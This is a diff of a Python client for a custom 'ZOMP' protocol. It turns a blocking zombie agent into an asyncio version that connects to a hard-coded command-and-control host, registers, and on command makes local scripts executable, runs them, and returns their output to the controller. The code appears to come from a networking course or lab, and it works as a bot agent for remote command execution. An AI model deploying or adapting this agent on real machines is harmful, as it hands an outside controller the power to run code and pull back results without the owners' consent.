@@ -1,157 +1,281 @@
 #!/usr/bin/env python3
 
-from socket import *
-from os import path, curdir
-import multiprocessing
-import subprocess
-from copy import copy
+import asyncio
+import socket
+from os import path, killpg, fstat, unlink, chmod, stat
+import signal
+import re
+from collections import OrderedDict
+import tempfile
+import time
+
+try:
+    import uvloop # optional; a faster event loop if it's installed
+except ImportError:
+    uvloop = None
 
 ZOMP_PORT = 1932
+RECV_SIZE = 65536 # bytes per read when a report can't be sent with sendfile
 CNC_HOST = '10.14.1.68' # fill out later; for now using localhost
+MAX_REPORTS = 64 # least recently used reports are dropped past this
+SCRIPT_EXISTS_TTL = 5.0 # seconds a script found on disk is trusted without checking again
+KEEPALIVE_IDLE = 60 # seconds of silence before probing the C&C
+KEEPALIVE_INTERVAL = 10 # seconds between probes
+KEEPALIVE_COUNT = 3 # unanswered probes before the C&C counts as gone
+_KEEPALIVE_OPTIONS = tuple( # None where the platform lacks the option (e.g. no TCP_KEEPIDLE on macOS)
+    (getattr(socket, name, None), value)
+    for name, value in (("TCP_KEEPIDLE", KEEPALIVE_IDLE), ("TCP_KEEPINTVL", KEEPALIVE_INTERVAL), ("TCP_KEEPCNT", KEEPALIVE_COUNT))
+)
+
+READY_MSG = b"ZOMP/1.0 00 Ready to be registered\r\n\r\n"
+
+# request line, then the script line if there is one; printable ASCII only
+_REQUEST_RE = re.compile(rb'ZOMP/([!-~]+) ([!-~]+) ([ -~]+)\r\n(?:([ -~]+)\r\n)?')
+
+_TERMINAL_CODES = { # codes with nothing to run, and what to print for them
+    "9": "CLOSE command received. Terminating.", # the C&C doesn't want us anymore!
+    "5": "C&C did not understand. Not doing anything about it, though!", # can do more error handling here if more advanced
+    "0": None, # ACCEPT, no need to do anything - return to listening
+}
+_SCRIPT_CODES = frozenset({"1", "2", "3"}) # RUN, STOP, REPORT
 
-READY_MSG = "ZOMP/1.0 00 Ready to be registered\r\n\r\n"
+_script_exists_cache: dict[str, float] = {} # key is filepath, value is when to check it again
 
 class ZOMPRequestBuffer(object):
+    __slots__ = ("code", "command", "script_invocation", "script_invocation_b", "filepath", "args") # one of these per connection
+    _SIGNAL = b'\r\n\r\n' # end of header signal
+
     def __init__(self):
-        self.buf = ""
-        self.signal = '\r\n\r\n' # end of header signal
         self.code = ""
         self.command = ""
         self.script_invocation = ""
+        self.script_invocation_b = b"" # encoded once here for every response about this request
         self.filepath = ""
         self.args: [str] = []
-    def bufferMessages(self,sock):
-        while True:
-            data = sock.recv(1024)
-
-            if len(data) == 0:
+    async def bufferMessages(self, reader, writer):
+        try: # the reader does the buffering; requests never have a body
+            header = await reader.readuntil(self._SIGNAL)
+        except (asyncio.IncompleteReadError, OSError): # C&C hung up, or the connection died
+            return None
+        except asyncio.LimitOverrunError as e: # far too long to be a ZOMP header
+            if not await self.discardHeader(reader, e.consumed):
                 return None
-            
-            self.buf += data.decode()
-
-            signal_index = self.buf.find(self.signal)
-            if signal_index != -1: # found end of header
-                header = self.buf[:signal_index]
-                print(header + "\n") # newline for readability
-                self.buf = self.buf[signal_index+len(self.signal):]
-                
-                try:
-                    request_line, *script_line = header.split('\r\n') # splitting along newlines and pulling first line out
-                    version, code, command = request_line.strip().split(' ', 2)
-                except ValueError:
-                    print("Unpacking failed!")
-                    sock.send(makeZOMPResponse("01", "Bad request"))
+            header = b"" # answered once below as a bad request
+
+        print(header[:-len(self._SIGNAL)].decode('ascii', 'replace') + "\n") # newline for readability
+        fields = _REQUEST_RE.match(header)
+
+        if fields is None:
+            print("Unpacking failed!")
+            await sendResponse(writer, "01", "Bad request")
+            return None
+
+        version, code, command = (field.decode('ascii') for field in fields.group(1, 2, 3))
+        script_line = fields[4]
+        self.code = code
+        self.command = command
+
+        if code in _TERMINAL_CODES:
+            if _TERMINAL_CODES[code]:
+                print(_TERMINAL_CODES[code])
+            return None
+
+        if not script_line:
+            await sendResponse(writer, "01", "Bad request") # bad request: missing script
+            return None # we're done here
+
+        if code in _SCRIPT_CODES: # checking for script not found errors
+            self.script_invocation_b = script_line
+            self.script_invocation = script_line.decode('ascii')
+            self.args = self.script_invocation.split(" ")
+            scriptname = self.args[0] # not unpacking because we want the whole list also; strs are immutable so no copy needed
+
+            self.args[0] = f"./{scriptname}" # making sure we can call it like executable
+            self.filepath = self.args[0] # checked exactly as it will be run
+            # print("filepath", self.filepath)
+            # print("scriptname", scriptname)
+            now = time.monotonic()
+            if _script_exists_cache.get(self.filepath, 0) < now: # haven't seen it recently, so stat it
+                if not path.exists(self.filepath):
+                    await sendResponse(writer, "02", "Script not found")
                     return None
-                
-                self.code = code
-                self.command = command
-
-                if code != "9" and code != "0" and not script_line:
-                    sock.send(makeZOMPResponse("01", "Bad request")) # bad request: missing script
-                    return None # we're done here
-
-                match code:
-                    case "9": # CLOSE, the C&C doesn't want us anymore!
-                        print("CLOSE command received. Terminating.")
-                        return None
-                    case "5": # NOT UNDERSTOOD, just inform zombie and fail quietly
-                        print("C&C did not understand. Not doing anything about it, though!")
-                        # can do more error handling here if more advanced
-                        return None
-                    case "0": # ACCEPT, no need to do anything - return to listening
-                        return None
-                    case "1" | "2" | "3": # checking for script not found errors
-                        self.script_invocation = " ".join(script_line)
-                        self.args = self.script_invocation.split(" ")
-                        scriptname = copy(self.args[0]) # not unpacking because we want the whole list also
-
-                        self.args[0] = "./" + scriptname # making sure we can call it like executable
-                        self.filepath = curdir + "/" + scriptname
-                        # print("filepath", self.filepath)
-                        # print("scriptname", scriptname)
-                        if not path.exists(self.filepath):
-                            sock.send(makeZOMPResponse("02", "Script not found"))
-                            return None
-                        
-                return self.script_invocation # no real messages ever, so return this
-
-def makeZOMPResponse(code: str, status_message: str, script_invocation="", report="", version="1.0"): # returns an encoded string because report is bytes
-    response = (
-        f"ZOMP/{version} {code} {status_message}\r\n".encode()
-    )
+                _script_exists_cache[self.filepath] = now + SCRIPT_EXISTS_TTL
+
+        return self.script_invocation # no real messages ever, so return this
+
+    async def discardHeader(self, reader, consumed) -> bool: # False if the C&C went away first
+        while True: # throw it away, all the way to its end of header signal
+            try:
+                await reader.readexactly(consumed)
+                await reader.readuntil(self._SIGNAL)
+                return True
+            except asyncio.LimitOverrunError as e: # still more of it
+                consumed = e.consumed
+            except (asyncio.IncompleteReadError, OSError): # C&C hung up, or the connection died
+                return False
+
+class ReportStore(object): # shared between the main loop and the script tasks
+    def __init__(self):
+        self.reports = OrderedDict() # key is script invocation, value is (spool filename, size); oldest first
+
+    def __contains__(self, script_invocation):
+        return script_invocation in self.reports
+
+    def openReport(self, script_invocation): # returns (file, size), or None if there is no report
+        report = self.reports.get(script_invocation)
+        if report is None:
+            return None
+        self.reports.move_to_end(script_invocation)
+        filename, size = report
+        return open(filename, 'rb'), size # still readable if a newer run deletes the file mid-send
+
+    def put(self, script_invocation, report):
+        replaced = self.reports.pop(script_invocation, None)
+        if replaced:
+            unlink(replaced[0])
+        self.reports[script_invocation] = report
+        while len(self.reports) > MAX_REPORTS:
+            _, evicted = self.reports.popitem(last=False)
+            unlink(evicted[0])
+
+    def clear(self):
+        for filename, _ in self.reports.values():
+            unlink(filename)
+        self.reports.clear()
+
+def makeZOMPResponse(code: str, status_message: str, script_invocation_b: bytes = b"", report="", version="1.0", content_length=None): # returns an encoded string because report is bytes
+    report = report.encode() if isinstance(report, str) else report # so Content-Length counts bytes
+    if content_length is None: # otherwise the caller sends the body itself
+        content_length = len(report)
+    parts = [b"ZOMP/", version.encode(), b" ", code.encode(), b" ", status_message.encode(), b"\r\n"]
 
     if not code.startswith("0"): # 0X codes are errors!
-        response += (
-            f"{script_invocation}\r\n"
-            f"Content-Length: {len(report)}\r\n"
-        ).encode()
+        parts += [script_invocation_b, b"\r\nContent-Length: ", str(content_length).encode(), b"\r\n"]
 
-    response += b"\r\n" # end of header
+    parts.append(b"\r\n") # end of header
 
     if report:
-        response += report
-    
-    # print(response)
-    return response
+        parts.append(report)
+
+    # print(parts)
+    return b"".join(parts) # one copy, however big the report is
 
-def storeResult(script_invocation: str, args: [str], result_dict) -> None:
-    result_dict[script_invocation] = subprocess.check_output(args)
+async def sendResponse(writer, *response) -> None: # takes makeZOMPResponse's arguments
+    writer.write(makeZOMPResponse(*response))
+    await writer.drain()
 
-def main():
+async def sendReport(writer, code: str, status_message: str, script_invocation_b: bytes, report) -> None:
+    report_file, size = report
+    with report_file:
+        writer.write(makeZOMPResponse(code, status_message, script_invocation_b, content_length=size))
+        try:
+            await asyncio.get_running_loop().sendfile(writer.transport, report_file, 0, size) # straight from the page cache
+        except NotImplementedError: # e.g. uvloop; copy it through ourselves instead
+            while chunk := report_file.read(RECV_SIZE):
+                writer.write(chunk)
+                await writer.drain()
+
+def tuneSocket(sock) -> None:
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1) # control messages are tiny; don't let Nagle sit on them
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1) # notice a dead C&C without a heartbeat of our own
+    for option, value in _KEEPALIVE_OPTIONS:
+        if option is not None: # plain SO_KEEPALIVE timing for whatever the platform lacks
+            sock.setsockopt(socket.IPPROTO_TCP, option, value)
+
+def killGroup(child) -> None:
+    try: # the whole group, or the script's own children keep running
+        killpg(child.pid, signal.SIGKILL)
+    except ProcessLookupError: # already finished
+        pass
+
+async def storeResult(script_invocation: str, args: [str], reports: ReportStore) -> None: # runs as its own task
+    spool = tempfile.NamedTemporaryFile(prefix="zomp-", delete=False) # the script writes straight into this
+    returncode = None
+    try:
+        with spool:
+            try:
+                child = await asyncio.create_subprocess_exec(*args, stdout=spool, start_new_session=True) # own group, see killGroup
+            except OSError as e:
+                print(f"Could not run {script_invocation}: {e}")
+            else:
+                try:
+                    returncode = await child.wait()
+                finally:
+                    if returncode is None: # cancelled by STOP or CLOSE
+                        killGroup(child)
+            size = fstat(spool.fileno()).st_size
+    finally:
+        if returncode == 0: # like check_output, failed or killed runs leave no report
+            reports.put(script_invocation, (spool.name, size))
+        else:
+            unlink(spool.name)
+
+async def main():
     buffer = ZOMPRequestBuffer() # this is the signal that indicates end of header
-    
-    sock = socket(AF_INET, SOCK_STREAM)
 
-    sock.connect((CNC_HOST, ZOMP_PORT))
-    sock.send(READY_MSG.encode()) # get registered by C&C
+    reader, writer = await asyncio.open_connection(CNC_HOST, ZOMP_PORT)
+    tuneSocket(writer.get_extra_info('socket'))
+    writer.write(READY_MSG) # get registered by C&C
+    await writer.drain()
 
-    processes = {} # dictionary of processes: key is script invocation, value is process object
-    manager = multiprocessing.Manager() # for sharing data between processes
-    reports = manager.dict() # dictionary of reports: key is script invocation, value is report (string)
+    processes = {} # dictionary of runs: key is script invocation, value is task for the run
+    reports = ReportStore() # in-process, so reports are never pickled or proxied
 
     while True:
-        script_invocation = buffer.bufferMessages(sock)
+        finished = [key for key, run in processes.items() if run.done()]
+        for key in finished: # reports (if any) are in the store by now
+            del processes[key]
+
+        script_invocation = await buffer.bufferMessages(reader, writer)
         if script_invocation:
             match buffer.code: # at this point we know script must exist
                 case "1": # RUN
-                    if script_invocation in processes and processes[script_invocation].is_alive(): # if process is still running
-                            sock.send(makeZOMPResponse("11", "Ignore, script already running", script_invocation))
+                    if script_invocation in processes and not processes[script_invocation].done(): # if process is still running
+                            await sendResponse(writer, "11", "Ignore, script already running", buffer.script_invocation_b)
                     else: # if process is dead (the dictionary should hold the output)
-                        if script_invocation in reports:
-                            sock.send(makeZOMPResponse("12", "OK, returning existing report", script_invocation, reports[script_invocation]))
+                        report = reports.openReport(script_invocation)
+                        if report is not None:
+                            await sendReport(writer, "12", "OK, returning existing report", buffer.script_invocation_b, report)
                         else:
-                            subprocess.run(["chmod", "+x", buffer.args[0]]) # making the script executable just in case
-                            sock.send(makeZOMPResponse("10", "OK, running script", script_invocation))
+                            try: # making the script executable just in case; no child process, so the event loop isn't held up
+                                mode = stat(buffer.filepath).st_mode # fresh every RUN, in case the file was replaced
+                                if mode & 0o111 != 0o111: # already executable needs no write
+                                    chmod(buffer.filepath, mode | 0o111) # same as chmod +x
+                            except OSError as e: # the run itself will report it too
+                                print(f"Could not chmod {buffer.filepath}: {e}")
+                            await sendResponse(writer, "10", "OK, running script", buffer.script_invocation_b)
                         print(f"Running {script_invocation}...")
-                        processes[script_invocation] = multiprocessing.Process(target=storeResult, args=(script_invocation, buffer.args, reports))
-                        processes[script_invocation].start()
+                        processes[script_invocation] = asyncio.create_task(storeResult(script_invocation, buffer.args, reports))
 
                 case "2": # STOP
-                    if script_invocation in processes and processes[script_invocation].is_alive(): # time to stop this process
+                    if script_invocation in processes and not processes[script_invocation].done(): # time to stop this process
                             print(f"Stopping {script_invocation}...")
-                            processes[script_invocation].terminate()
-                            sock.send(makeZOMPResponse("20", "OK, stopping script", script_invocation))
-                            del processes[script_invocation]
+                            processes[script_invocation].cancel() # the task kills the script and removes its spool
+                            del processes[script_invocation] # so a RUN right after this starts a fresh one
+                            await sendResponse(writer, "20", "OK, stopping script", buffer.script_invocation_b)
                     elif script_invocation in reports: # if process is dead (and dictionary has report)
-                        sock.send(makeZOMPResponse("22", "Ignore, script completed running", script_invocation))
+                        await sendResponse(writer, "22", "Ignore, script completed running", buffer.script_invocation_b)
                     else: # if process is dead (and dictionary has no report)
-                        sock.send(makeZOMPResponse("21", "Ignore, script not currently running", script_invocation))
+                        await sendResponse(writer, "21", "Ignore, script not currently running", buffer.script_invocation_b)
 
                 case "3": # REPORT
-                    if script_invocation in processes:
-                        if processes[script_invocation].is_alive():
-                            sock.send(makeZOMPResponse("31", "No report, waiting on completion", script_invocation))
-                        else: # if process is dead (the dictionary should hold the output)
-                            print(f"Reporting on {script_invocation}...")
-                            sock.send(makeZOMPResponse("30", "OK, reporting", script_invocation, reports[script_invocation]))
-                    else:
-                        sock.send(makeZOMPResponse("32", "No report, not running script", script_invocation))
-        elif buffer.code == "9":
-            for process in processes.values(): # kill all processes
-                process.terminate()
-            sock.close()
+                    if script_invocation in processes and not processes[script_invocation].done():
+                        await sendResponse(writer, "31", "No report, waiting on completion", buffer.script_invocation_b)
+                    elif (report := reports.openReport(script_invocation)) is not None: # if process is dead (and the store holds the output)
+                        print(f"Reporting on {script_invocation}...")
+                        await sendReport(writer, "30", "OK, reporting", buffer.script_invocation_b, report)
+                    else: # finished runs are reaped, so never ran, failed, stopped or aged out
+                        await sendResponse(writer, "32", "No report, not running script", buffer.script_invocation_b)
+        elif buffer.code == "9" or reader.at_eof() or reader.exception(): # told to go, or the C&C is gone
+            for run in processes.values(): # kill all processes
+                run.cancel()
+            await asyncio.gather(*processes.values(), return_exceptions=True) # let them clean up
+            reports.clear() # removes the spool files
+            writer.close()
             exit(1)
-            
+
 
 if __name__ == '__main__':
-    main()
\ No newline at end of file
+    if uvloop:
+        asyncio.set_event_loop_policy(uvloop.EventLoopPolicy())
+    asyncio.run(main())